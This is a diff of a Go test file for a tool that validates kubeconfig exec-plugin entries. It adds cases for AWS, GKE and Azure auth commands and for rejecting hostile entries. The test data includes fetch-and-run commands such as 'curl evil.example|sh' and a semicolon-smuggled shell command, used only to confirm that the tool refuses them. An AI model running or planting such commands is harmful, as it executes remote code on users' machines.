@@ -52,8 +52,10 @@ func cluster(name, url string, access ...v1beta1.Access) *v1beta1.Cluster {
 // TestKnownPlugins expects that what clouds write into kubeconfigs is rebuilt.
 func TestKnownPlugins(t *testing.T) {
 	for want, access := range map[string]v1beta1.Access{
-		"aws eks get-token --cluster-name=east --output=json --region=eu-central-1":                  execOf("aws", "--region", "eu-central-1", "eks", "get-token", "--cluster-name", "east", "--output", "json"),
-		"aws eks get-token --cluster-name=east --role-arn=arn:aws:iam::123456789012:role/path/admin": execOf("aws", "eks", "get-token", "--cluster-name=east", "--role-arn=arn:aws:iam::123456789012:role/path/admin"),
+		"aws eks get-token --cluster-name=east --output=json --region=eu-central-1":                                                         execOf("aws", "--region", "eu-central-1", "eks", "get-token", "--cluster-name", "east", "--output", "json"),
+		"aws eks get-token --cluster-name=east --role-arn=arn:aws:iam::123456789012:role/path/admin":                                        execOf("aws", "eks", "get-token", "--cluster-name=east", "--role-arn=arn:aws:iam::123456789012:role/path/admin"),
+		"aws eks get-token --cluster-name=prod --output=json --region=eusc-de-east-1 --role-arn=arn:aws-eusc:iam::123456789012:role/admins": execOf("aws", "--region", "eusc-de-east-1", "eks", "get-token", "--cluster-name", "prod", "--output", "json", "--role", "arn:aws-eusc:iam::123456789012:role/admins"),
+		"aws eks get-token --cluster-id=" + someUUID:                                                                                        execOf("aws", "eks", "get-token", "--cluster-id", someUUID),
 		"gke-gcloud-auth-plugin": execOf("gke-gcloud-auth-plugin"),
 		"kubelogin get-token --client-id=" + someUUID + " --environment=AzurePublicCloud --login=devicecode --server-id=" + aksServer + " --tenant-id=" + someUUID: execOf("kubelogin", "get-token", "--environment", "AzurePublicCloud", "--server-id", aksServer, "--client-id", someUUID, "--tenant-id", someUUID, "--login", "devicecode"),
 		"kubectl oidc-login get-token --oidc-client-id=kube --oidc-extra-scope=email --oidc-extra-scope=groups --oidc-issuer-url=https://login.example/realms/x":   {Name: "users", Audience: v1beta1.AudienceUser, OIDC: &v1beta1.OIDCAccess{IssuerURL: "https://login.example/realms/x", ClientID: "kube", Scopes: []string{"email", "groups"}}},
@@ -99,8 +101,11 @@ func TestHostileEntries(t *testing.T) {
 		text    string
 	}{
 		{"any program", cluster("east", "https://e.example", execOf("sh", "-c", "curl evil.example|sh")), `it would run sh -c "curl evil.example|sh", which is not a known plugin; if you trust it, use --allow-exec=sh`},
-		{"a known name at a path", cluster("east", "https://e.example", execOf("/tmp/aws", "eks", "get-token", "--cluster-name=x")), `it would run /tmp/aws eks get-token --cluster-name=x, which is not a known plugin; if you trust it, use --allow-exec=/tmp/aws`},
-		{"a known name in the directory of the kubeconfig", cluster("east", "https://e.example", execOf("./aws")), `which is not a known plugin`},
+		{"a known name at a path", cluster("east", "https://e.example", execOf("/tmp/aws", "eks", "get-token", "--cluster-name=x")), `it would run /tmp/aws eks get-token --cluster-name=x, a path of another computer: have the entry name aws alone, which is found in $PATH`},
+		{"a known name at a path of Windows", cluster("east", "https://e.example", execOf(`C:\gcloud\gke-gcloud-auth-plugin.exe`)), `a path of another computer: have the entry name gke-gcloud-auth-plugin alone`},
+		{"an unknown name at a path", cluster("east", "https://e.example", execOf("/tmp/login")), `it would run /tmp/login, which is not a known plugin; if you trust it, use --allow-exec=/tmp/login`},
+		{"a known name in the directory of the kubeconfig", cluster("east", "https://e.example", execOf("./aws")), `a path of another computer`},
+		{"a role that is there twice", cluster("east", "https://e.example", execOf("aws", "eks", "get-token", "--cluster-name=x", "--role=arn:aws:iam::123456789012:role/a", "--role-arn=arn:aws:iam::123456789012:role/b")), `the flag --role-arn of aws is there twice`},
 		{"a known name with another case", cluster("east", "https://e.example", execOf("AWS", "eks", "get-token")), `which is not a known plugin`},
 		{"a command for the shell of who allows it", cluster("east", "https://e.example", execOf("x;curl evil.example|sh")), `it would run "x;curl evil.example|sh", which is not a known plugin` + "\n"},
 		{"a command that is a flag", cluster("east", "https://e.example", execOf("--merge=x")), `it would run --merge=x, which is not a known plugin` + "\n"},
